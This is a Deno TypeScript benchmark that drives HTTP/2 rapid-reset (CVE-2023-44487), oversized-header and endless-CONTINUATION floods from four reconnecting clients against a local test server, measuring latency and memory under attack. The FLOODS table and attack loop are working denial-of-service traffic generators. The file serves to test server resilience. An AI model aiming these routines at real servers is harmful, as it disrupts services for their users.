/**
 * Floods over HTTP/2: `deno run -A bench/http2_floods.ts [ROUNDS]`
 *
 * Four clients, each with a burst every 20 ms, connecting anew where it is cut: 20,000 requests a
 * second that are taken back at once (CVE-2023-44487), 2,000 with 40 KB of fields, and header blocks
 * that never end (26 MB/s of CONTINUATION). A line for each: the others' p99 beside it and without it, in turns, and how
 * much the server's memory (Pss) was up at its peak and after it. (Clients without pauses would
 * measure whose processor they share.)
 */

import { startAttacked } from "./attacked_server.ts";
import { compare, type Latency, watch } from "./bystanders.ts";
import { treePss } from "./cpu.ts";
import { CANCEL, concat, Flag, frame, FrameType, headerBlock, PREFACE } from "./http2_frames.ts";
import { median } from "./summary.ts";

const CLIENTS = 4;
const SECONDS = 5;
const PAUSE_MS = 20;
const LOOK_MS = 100;
const AUTHORITY = { ":method": "GET", ":scheme": "http", ":path": "/", ":authority": "bench" };
const PLAIN = headerBlock(Object.entries(AUTHORITY));
/** 12 KB; three of them are more than a request may have. */
const CHUNK = headerBlock(
  Array.from({ length: 60 }, (_, i) => [`x-field-${i}`, "x".repeat(200)] as const),
);

const { headers, reset, settings, continuation } = FrameType;

interface Flood {
  /** Requests, or frames, that are written at once. */
  readonly burst: number;
  /** What a client writes next; `stream` is the first number that it has not used. */
  next(stream: number): Uint8Array;
}

const times = (count: number, make: (i: number) => Uint8Array[]) =>
  concat(Array.from({ length: count }, (_, i) => make(i)).flat());

const FLOODS: Readonly<Record<string, Flood>> = {
  "rapid reset": {
    burst: 100,
    next: (first) =>
      times(100, (i) => [
        frame(headers, Flag.endHeaders | Flag.endStream, first + 2 * i, PLAIN),
        frame(reset, Flag.none, first + 2 * i, CANCEL),
      ]),
  },
  "header flood": {
    burst: 10,
    next: (first) =>
      times(10, (i) => [
        frame(headers, Flag.endStream, first + 2 * i, PLAIN),
        frame(continuation, Flag.none, first + 2 * i, CHUNK),
        frame(continuation, Flag.none, first + 2 * i, CHUNK),
        frame(continuation, Flag.endHeaders, first + 2 * i, CHUNK),
      ]),
  },
  "CONTINUATION flood": {
    burst: 10,
    next: (first) =>
      concat([
        ...(first === 1 ? [frame(headers, Flag.endStream, 1, PLAIN)] : []),
        times(10, () => [frame(continuation, Flag.none, 1, CHUNK)]),
      ]),
  },
};

const pause = (milliseconds: number) => new Promise((resolve) => setTimeout(resolve, milliseconds));

/** One connection's worth. Returns how much it could send before it was cut. */
async function flood(port: number, { burst, next }: Flood, end: number): Promise<number> {
  let sent = 0;
  using connection = await Deno.connect({ hostname: "127.0.0.1", port });
  const drained = (async () => {
    const buffer = new Uint8Array(65_536);
    while (await connection.read(buffer) !== null);
  })().catch(() => {});
  try {
    await connection.write(concat([PREFACE, frame(settings, Flag.none, 0)]));
    for (let stream = 1; performance.now() < end; stream += 2 * burst) {
      const bytes = next(stream);
      for (let at = 0; at < bytes.length;) at += await connection.write(bytes.subarray(at));
      sent += bytes.length;
      await pause(PAUSE_MS);
    }
    await connection.closeWrite();
    await drained;
  } catch {
    // Cut, as it should be.
  }
  return sent;
}

async function attack(port: number, kind: Flood): Promise<{ connections: number; sent: number }> {
  const end = performance.now() + (SECONDS + 1) * 1_000;
  let [connections, sent] = [0, 0];
  await Promise.all(Array.from({ length: CLIENTS }, async () => {
    while (performance.now() < end) {
      connections++;
      sent += await flood(port, kind, end).catch(() => 0);
      await pause(PAUSE_MS);
    }
  }));
  return { connections, sent };
}

for (const [name, kind] of Object.entries(FLOODS)) {
  const [quiet, attacked]: [Latency[], Latency[]] = [[], []];
  const [peaks, lasting, totals, counts]: number[][] = [[], [], [], []];
  for (let round = 0; round < Number(Deno.args[0] ?? 3); round++) {
    await using server = await startAttacked();
    await watch(server.port, 2); // warms up
    quiet.push(await watch(server.port, SECONDS));
    const before = treePss(server.pid);
    let peak = before;
    const sampler = setInterval(() => peak = Math.max(peak, treePss(server.pid)), LOOK_MS);
    const over = attack(server.port, kind);
    await pause(500);
    attacked.push(await watch(server.port, SECONDS));
    const { connections, sent } = await over;
    clearInterval(sampler);
    await pause(1_000);
    peaks!.push((peak - before) / 1e6);
    lasting!.push((treePss(server.pid) - before) / 1e6);
    totals!.push(sent / 1e6);
    counts!.push(connections);
  }
  const of = (list: number[] | undefined) => median(list!).toFixed(0);
  console.log(
    `${name}: ${compare(quiet, attacked)}; memory +${of(peaks)} MB at most, +${
      of(lasting)
    } after; ` +
      `${of(counts)} connections were cut, ${of(totals)} MB sent`,
  );
}
